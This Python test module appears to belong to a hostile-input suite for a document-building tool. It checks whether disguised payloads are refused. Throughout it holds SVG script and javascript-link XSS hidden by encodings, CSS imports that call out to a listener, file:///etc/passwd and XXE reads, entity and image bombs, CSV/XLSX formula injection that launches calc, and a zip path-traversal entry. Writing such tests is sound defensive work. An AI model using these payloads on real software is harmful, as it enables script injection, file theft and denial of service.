"""What hides from a quick look: other encodings, prefixes, escapes; what multiplies where nobody counts."""

from __future__ import annotations

import base64
from functools import partial

from tests.trust.hostile.corpus import Ground, case, cases
from tests.trust.hostile.in_packages import SHEET, people, xlsx
from tests.trust.hostile.in_pages import style
from tests.trust.hostile.in_pictures import png, saved, svg

SCRIPT = "<script>alert(1)</script>"
BOMB = base64.b64encode(png(30_000, 30_000, rows=b"\0" * 1000)).decode()
LARGE = base64.b64encode(png(7_000, 7_000, rows=bytes(7001 * 7000))).decode()
JPEG = base64.b64encode(saved("JPEG")).decode()


def seven(text: bytes) -> bytes:
    """A drawing in UTF-7, which has no brackets."""
    return b'<?xml version="1.0" encoding="UTF-7"?>' + text.decode().replace("<s", "+ADw-s").encode()


DRAWINGS: dict[str, bytes] = {
    "a script in UTF-7": seven(svg(SCRIPT)),
    "a script behind a prefix": svg('<s:script xmlns:s="http://www.w3.org/2000/svg">alert(1)</s:script>'),
    "a page behind a prefix": svg('<s:foreignObject xmlns:s="http://www.w3.org/2000/svg"/>'),
    "a frame": svg('<iframe xmlns="http://www.w3.org/1999/xhtml" src="{listener}"/>'),
    "a link that runs": svg('<a xlink:href="javascript:alert(1)"><rect width="9" height="9"/></a>'),
    "a link that runs, in pieces": svg('<a href="java&#10;scr&#9;ipt:alert(1)"><rect width="9" height="9"/></a>'),
    "a link that comes to run": svg('<a><animate attributeName="href" values="javascript:alert(1)"/></a>'),
    "a link that is set to run": svg('<a><set attributeName="xlink:href" to="javascript:alert(1)"/></a>'),
    "another base": svg('<g xml:base="{listener}"><use href="#a"/></g>'),
    "a style from elsewhere": b'<?xml-stylesheet href="{listener}a.css"?>' + svg(""),
    "an import in disguise": svg("<style>@\\69mport '{listener}a.css';</style>"),
    "an import in pieces": svg("<style>@im<!-- -->port '{listener}a.css';</style>"),
    "an import in CDATA": svg("<style><![CDATA[@import '{listener}a.css';]]></style>"),
    "an address in disguise": svg('<rect width="9" height="9" style="fill: u\\72 l({listener}a.png)"/>'),
    "an address in a set of pictures": svg('<rect style="fill: image-set(\'{listener}a.png\' 1x)"/>'),
    "a picture's bomb inside": svg(f'<image href="data:image/png;base64,{BOMB}" width="9" height="9"/>'),
    "two large pictures inside": svg(f'<image href="data:image/png;base64,{LARGE}" width="9" height="9"/>' * 2),
    "a picture inside that is none": svg('<image href="data:image/png;base64,QUJD" width="9" height="9"/>'),
    "a drawing inside, called a picture": svg(
        f'<image href="data:image/png;base64,{base64.b64encode(svg(SCRIPT)).decode()}" width="9" height="9"/>'),
    "a drawing inside a drawing": svg(
        f'<image href="data:image/svg+xml;base64,{base64.b64encode(svg(SCRIPT)).decode()}" width="9" height="9"/>'),
    "1 MB of words after a tag": svg("<text><tspan/>" + "w" * 1_000_000 + "</text>"),
}


def drawing(ground: Ground, content: bytes) -> None:
    """Write a drawing and a page that shows it."""
    ground.picture("a.svg", content.replace(b"{listener}", ground.listener.encode()))


for _name, _content in DRAWINGS.items():
    case(f"disguise: a drawing with {_name}", "pages/1-page.md:3")(
        lambda ground, content=_content: drawing(ground, content))  # type: ignore[misc]


@case("disguise: a drawing with a sound picture inside", outcome="built")
def _(ground: Ground) -> None:
    drawing(ground, svg(f'<image href="data:image/jpeg;base64,{JPEG}" width="9" height="9"/>'
                        '<a href="https://example.org/"><rect width="9" height="9"/></a>'))


CSS = "templates/handout/own.css"
cases("handout", "refused", CSS, style, {
    "disguise: css imports with an escape": "@\\69mport url({listener}a.css);",
    "disguise: css imports with escapes and ends": "@\\000069 mport u\\72l('{listener}a.css');",
    "disguise: css imports in capitals": "@IMPORT URL({listener}a.css);",
    "disguise: css imports after a comment": "/**/@import/**/'{listener}a.css';",
    "disguise: css imports a share": "@import '//127.0.0.1/a.css';",
    "disguise: css imports by backslashes": "@import '\\\\\\\\127.0.0.1\\\\a.css';",
    "disguise: css imports with an encoded path": "@import '%2e%2e/%2e%2e/%2e%2e/secret.txt';",
    "disguise: css imports with a port": "@import 'http://127.0.0.1:1@{listener}a.css';",
    "disguise: css shows with an escape": "p { background: u\\000072 l({listener}a.png) }",
    "disguise: css shows an escaped scheme": "p { background: url(\\68 ttp://127.0.0.1:9/a.png) }",
    "disguise: css shows a capital scheme": "p { background: url(FILE:///etc/passwd) }",
    "disguise: css shows a remote file": "p { background: url(file://127.0.0.1/etc/passwd) }",
    "disguise: css shows on sheets": "@page { background: url({listener}a.png) }",
    "disguise: css shows by a variable": ".a { --a: url({listener}a.png) } .b { background: var(--a) }",
    "disguise: css shows a font of many": "@font-face { font-family: X; src: local(Carlito), url({listener}a.woff2) format('woff2') } p { font-family: X }",
    "disguise: css reads a font above": "@font-face { font-family: X; src: url(../../../secret.txt) } p { font-family: X }",
})
cases("handout", "either", CSS, style, {
    "disguise: css imports for media": "@import url({listener}a.css) print and (min-width: 1px);",
    "disguise: css shows with spaces": "p { background: url(  '\t{listener}a.png'  ) }",
    "disguise: css shows in a running head": "@page { @top-left { content: url({listener}a.png) } }",
    "disguise: css in another encoding": '@charset "UTF-7"; +AEA-import \'{listener}a.css\';',
    "disguise: css shows data": "p { background: url(data:image/svg+xml;base64,"
                                + base64.b64encode(svg('<image href="http://127.0.0.1:9/a.png"/>')).decode() + ") }",
    "disguise: css shows a bomb as data": "p { background: url(data:image/png;base64," + BOMB + ") }",
    "disguise: css shows a set": "p { background: image-set('{listener}a.png' 1x) }",
    "disguise: css with 1 MB of one word": "p { font-family: " + "w" * 900_000 + " }",
    "disguise: css that tells by attributes": "a[href^='x'] { background: url({listener}a.png) } p::after { content: attr(x url) }",
    "disguise: css of 30,000 names": "".join(f".a{n}, " for n in range(30_000)) + "p { color: red }",
})

STYLE = ('<style xmlns="http://purl.org/net/xbiblio/csl" class="in-text" version="1.0"><info><title>T</title><id>t</id>'
         "</info>{macros}<citation><layout><text variable=\"title\"/></layout></citation>"
         "<bibliography><layout>{layout}</layout></bibliography></style>")


def csl(ground: Ground, content: bytes) -> None:
    """Write a style and a source."""
    ground.write("own.csl", content)
    ground.write("sources.yaml", "style: own.csl\nitems:\n  - {id: a, type: book, title: B}\n")


def macros(levels: int, times: int) -> str:
    """Macros that each call the one before many times."""
    return '<macro name="m0"><text variable="title"/></macro>' + "".join(
        f'<macro name="m{n}">' + f'<text macro="m{n - 1}"/>' * times + "</macro>" for n in range(1, levels))


STYLES: dict[str, bytes] = {
    "macros that call macros": STYLE.format(macros=macros(12, 10), layout='<text macro="m11"/>').encode(),
    "a macro that calls itself": STYLE.format(
        macros='<macro name="m"><text macro="m"/></macro>', layout='<text macro="m"/>').encode(),
    "two macros in a circle": STYLE.format(
        macros='<macro name="a"><text macro="b"/></macro><macro name="b"><text macro="a"/></macro>',
        layout='<text macro="a"/>').encode(),
    "a document type in UTF-16": ('<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE style [<!ENTITY a SYSTEM '
                                  '"file:///etc/passwd">]>' + STYLE.format(macros="", layout="&a;")).encode("utf-16"),
    "entities in UTF-7": b'<?xml version="1.0" encoding="UTF-7"?>+ADwAIQ-DOCTYPE style [+ADwAIQ-ENTITY a "aa">]>'
                         + STYLE.format(macros="", layout="&a;").encode(),
    "5,000 groups in each other": STYLE.format(macros="", layout="<group>" * 5000 + "</group>" * 5000).encode(),
    "no layout": b'<style xmlns="http://purl.org/net/xbiblio/csl" class="in-text" version="1.0"/>',
    "another vocabulary": b"<html/>",
    "2 MB": b"<!-- " + b"a" * 2_000_000 + b" -->",
    "zero bytes": b"\0" * 100,
}
for _name, _content in STYLES.items():
    case(f"disguise: a style of sources with {_name}", "sources.yaml:1", only="handout")(
        lambda ground, content=_content: csl(ground, content))  # type: ignore[misc]

XML = b'<?xml version="1.0" encoding="%s"?>'
CELLS = b"".join(b'<c r="%s1" t="inlineStr"><is><t>name</t></is></c>' % column for column in (b"A", b"B"))
BOOKS = {
    "entities in UTF-16": partial(xlsx, ('<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE a [<!ENTITY a "'
                                + "a" * 1000 + '"><!ENTITY b "' + "&a;" * 1000 + '"><!ENTITY c "' + "&b;" * 1000
                                + '">]>' + (SHEET % b'<row r="1"><c r="A1" t="inlineStr"><is><t>&c;</t></is></c></row>')
                                .decode()).encode("utf-16")),
    "a formula": partial(xlsx, SHEET % b'<row r="1"><c r="A1" t="str"><f>HYPERLINK("http://127.0.0.1:9/","name")</f><v>name</v></c>'
                              b'</row><row r="2"><c r="A2" t="str"><f>cmd|\' /C calc\'!A0</f><v>=1+1</v></c></row>'),
    "numbers beyond": partial(xlsx, SHEET % (b'<row r="1">' + CELLS + b'</row><row r="2"><c r="A2"><v>' + b"9" * 5000
                                    + b'</v></c><c r="B2"><v>1e999</v></c></row>')),
    "dates beyond": partial(xlsx, SHEET % (b'<row r="1">' + CELLS + b'</row><row r="2"><c r="A2" t="d"><v>99999-99-99</v></c>'
                                  b'<c r="B2" t="e"><v>#REF!</v></c></row>')),
    "merged cells": partial(xlsx, (SHEET % (b'<row r="1">' + CELLS + b"</row>")).replace(
        b"</worksheet>", b'<mergeCells><mergeCell ref="A1:XFD1048576"/></mergeCells></worksheet>')),
    "a size that lies": partial(xlsx, (SHEET % (b'<row r="1">' + CELLS + b"</row>")).replace(
        b"<sheetData>", b'<dimension ref="A1:XFD1048576"/><sheetData>')),
    "rows backwards": partial(xlsx, SHEET % (b'<row r="1048576">' + CELLS + b'</row><row r="1">' + CELLS + b"</row>")),
    "a million cells": partial(xlsx, SHEET % b"".join(
        b'<row r="%d">' % n + b"<c><v>1</v></c>" * 100 + b"</row>" for n in range(1, 10_001))),
    "100,000 columns": partial(xlsx, SHEET % (b'<row r="1">' + b"<c><v>1</v></c>" * 100_000 + b"</row>")),
    "a relation to elsewhere": partial(xlsx, SHEET % (b'<row r="1">' + CELLS + b"</row>"), {
        "xl/worksheets/_rels/sheet1.xml.rels": b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
        b'relationships"><Relationship Id="r" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
        b'externalLinkPath" Target="http://127.0.0.1:9/a.xlsx" TargetMode="External"/></Relationships>'}),
    "an entry above": partial(xlsx, SHEET % (b'<row r="1">' + CELLS + b"</row>"), {"../../../evil.xml": b"<a/>"}),
}
for _name, _content in BOOKS.items():
    case(f"disguise: a workbook with {_name}", "participants.xlsx", outcome="either")(
        lambda ground, content=_content: people(ground, "participants.xlsx", content()))  # type: ignore[misc]

TABLES: dict[str, bytes] = {
    "formulas": b'name,organisation\n"=cmd|\' /C calc\'!A0",@SUM(1)\n"=HYPERLINK(""http://127.0.0.1:9"")",+1\n',
    "a million columns": b"name" + b"," * 1_000_000 + b"\nA\n",
    "a million cells": b"name,organisation\n" + b"a,b\n" * 500_000,
    "a separator of its own": b"sep=\x1b\nname\x1borganisation\nA\x1bB\n",
    "UTF-16 cut in a pair": "name\nA\U0001f600".encode("utf-16")[:-2],
    "UTF-32": "name\nA\n".encode("utf-32"),
    "only quotes": b'"' * 24_000_000,
    "hidden signs": "name\nA\u200b\u2060\u00ad\u034f\u061c\n".encode(),
    "marks without end": ("name\nA" + "\u0301" * 400 + "\n").encode(),
}
for _name, _content in TABLES.items():
    case(f"disguise: a table with {_name}", "participants.csv", outcome="either")(
        lambda ground, content=_content: people(ground, "participants.csv", content))  # type: ignore[misc]
